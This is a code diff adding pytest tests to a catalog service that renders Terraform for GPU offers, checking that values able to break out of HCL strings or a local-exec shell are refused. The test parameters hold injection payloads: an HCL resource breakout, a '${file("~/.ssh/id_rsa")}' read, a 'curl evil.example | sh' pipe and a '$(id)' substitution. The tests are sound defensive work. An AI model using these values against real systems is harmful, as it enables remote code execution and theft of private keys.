@@ -11,7 +11,7 @@ from sqlalchemy.orm import Session
 
 from catalog import service
 from catalog.models import Offer
-from iac_templates.render import render_terraform
+from iac_templates.render import UnsafeTerraformValue, render_terraform
 
 
 def parse(text: str) -> Any:
@@ -162,3 +162,33 @@ def test_vast_renders_a_rental_through_its_api(db: Session) -> None:
     assert data["input"]["num_gpus"] == offer["gpu_count"]
     assert "/api/v0/asks/" in text and "VAST_API_KEY" in text
     assert any("no official Terraform provider" in n for n in notes)
+
+
+def test_every_offer_of_the_catalog_renders(db: Session) -> None:
+    """The values the templates refuse (see below) never occur in a real catalog: every offer renders."""
+    ids = db.execute(select(Offer.id)).scalars().all()
+    assert len(ids) > 1000
+    for oid in ids:
+        render_terraform(service.get_offer(db, oid))
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("region", 'us-east-1"\n}\nresource "null_resource" "x" {'),
+        ("region", '${file("~/.ssh/id_rsa")}'),
+        ("name", "1x-RTX_4090'; curl evil.example | sh; echo '-1-2"),
+        ("external_id", "p5.48xlarge$(id)"),
+        ("region", "eu\\west"),
+    ],
+)
+def test_a_value_that_could_break_out_of_its_string_is_refused(db: Session, field: str, value: str) -> None:
+    """A provider's catalog (or a request) that holds a quote, "${", "$(", a backslash or a newline must not
+    reach an HCL string or the shell of a local-exec: the render is refused, naming the value."""
+    # Vast's template reads the offer's name (its GPU name, for the shell of a local-exec), AWS's the
+    # instance type from the external id; all three write the region.
+    for provider in {"name": ("vast",), "external_id": ("aws",)}.get(field, ("aws", "vast", "lambda")):
+        oid = db.execute(select(Offer.id).where(Offer.provider == provider).limit(1)).scalar_one()
+        offer = {**service.get_offer(db, oid), field: value}
+        with pytest.raises(UnsafeTerraformValue, match="cannot be written into Terraform"):
+            render_terraform(offer)
